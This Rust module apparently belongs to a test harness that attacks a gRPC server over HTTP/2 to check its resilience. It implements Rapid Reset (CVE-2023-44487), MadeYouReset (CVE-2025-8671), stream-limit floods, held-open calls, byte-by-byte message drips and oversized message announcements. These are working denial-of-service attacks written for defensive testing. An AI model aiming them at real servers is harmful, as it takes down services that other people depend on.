//! Calls that are reset, refused or never finished.

use std::io;
use std::sync::LazyLock;
use std::time::Duration;

use greet_testkit::framing::framed;
use greet_testkit::http2::{
    CANCEL, DATA, END_HEADERS, HEADERS, MAX_WINDOW, RST_STREAM, WINDOW_UPDATE, call, call_headers,
    frame,
};
use greet_testkit::{AttackState, HostilePeer};

use super::{MAX_CALLS, MAX_STREAMING_CALLS, MESSAGE_BYTES, WATCH};
use crate::harness::sample;

/// Calls that are sent at once.
const CALLS: u32 = 20;
/// Time in which a server accepts them.
const ACCEPT_TIME: Duration = Duration::from_millis(2);
/// Calls of a connection whose messages arrive slowly.
const SLOW_CALLS: u32 = 10;
const DRIP_INTERVAL: Duration = Duration::from_millis(200);

/// Encoded once: a flood must not be slower than the server that it meets.
static CALL_HEADERS: LazyLock<Vec<u8>> = LazyLock::new(|| call_headers(sample::PATH));

/// Encodes the headers of a call whose message never arrives.
fn headers(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &CALL_HEADERS)
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &CANCEL)
}

/// Returns what `frames` returns for the streams of a round.
fn round(round: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let calls = CALLS * round..CALLS * (round + 1);
    calls.map(|call| frames(2 * call + 1)).collect::<Vec<_>>().concat()
}

/// CVE-2023-44487.
pub(super) fn rapid_reset(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    peer.flood(|number| round(number, |stream| [headers(stream), reset(stream)].concat()))
}

/// The server has accepted each call before its reset.
pub(super) fn late_reset(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    (0..).try_for_each(|number| {
        peer.send(&round(number, headers))?;
        peer.pause(ACCEPT_TIME)?;
        peer.send(&round(number, reset))
    })
}

/// CVE-2025-8671: invalid frames make the server reset the calls. Most servers answer the increment 0 of the
/// published attack with an error of the connection, and one that overflows the window with RST_STREAM.
pub(super) fn made_you_reset(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    let invalid = |stream| frame(WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes());
    peer.flood(|number| round(number, |stream| [headers(stream), invalid(stream)].concat()))
}

pub(super) fn over_max_streams(target: &str, attack: &AttackState) -> io::Result<()> {
    HostilePeer::connect(target, &[], attack)?.flood(|number| round(number, headers))
}

pub(super) fn without_message(target: &str, attack: &AttackState) -> io::Result<()> {
    open(target, attack, MAX_CALLS, |stream| call(stream, sample::PATH, None))
}

pub(super) fn watches_without_message(target: &str, attack: &AttackState) -> io::Result<()> {
    open(target, attack, MAX_CALLS, |stream| call(stream, WATCH, None))
}

pub(super) fn watches(target: &str, attack: &AttackState) -> io::Result<()> {
    open(target, attack, MAX_STREAMING_CALLS + 1, |stream| call(stream, WATCH, Some(b"")))
}

/// Opens calls and holds them.
fn open(
    target: &str,
    attack: &AttackState,
    calls: u32,
    frames: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    (0..calls).try_for_each(|call| peer.send(&frames(2 * call + 1)))?;
    peer.hold()
}

/// Messages that arrive one byte at a time.
pub(super) fn message_drip(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    let streams = || (0..SLOW_CALLS).map(|call| 2 * call + 1);
    streams().try_for_each(|stream| peer.start_call(stream, sample::PATH))?;
    for byte in framed(&[b'x'; MESSAGE_BYTES]) {
        let frames = streams().flat_map(|stream| frame(DATA, 0, stream, &[byte]));
        peer.send(&frames.collect::<Vec<_>>())?;
        peer.pause(DRIP_INTERVAL)?;
    }
    peer.hold()
}

/// The prefix of a message of 4 GiB.
pub(super) fn announced_message(target: &str, attack: &AttackState) -> io::Result<()> {
    let mut peer = HostilePeer::connect(target, &[], attack)?;
    let prefix = [0, 0xff, 0xff, 0xff, 0xff];
    let frames = |stream| [headers(stream), frame(DATA, 0, stream, &prefix)].concat();
    peer.flood(|number| round(number, frames))
}
